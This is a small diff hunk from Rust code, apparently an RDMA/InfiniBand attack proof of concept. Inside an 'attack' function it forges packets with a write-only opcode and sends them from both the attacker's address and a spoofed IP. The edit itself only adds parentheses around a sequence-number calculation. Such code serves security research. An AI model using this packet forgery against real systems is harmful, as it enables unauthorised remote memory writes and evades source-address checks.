@@ -106,7 +106,7 @@ fn attack(c: &Side, a: &Side, b: &Side, qa: u32, qb: u32, va: u64, rkey: u32) ->
     let mut frames = Vec::new();
     let mut unknown = 0;
     for i in 0..EACH as u32 {
-        let psn = i * 7919 & 0xFF_FFFF;
+        let psn = (i * 7919) & 0xFF_FFFF;
         // From the attacker's own address, and from a spoofed one.
         for src in [c.ipv4, Ipv4Addr::new(10, 47, 0, 77)] {
             let h = forged(c, b, src, bth(Opcode::WriteOnly, qb, psn, DEFAULT_PKEY));
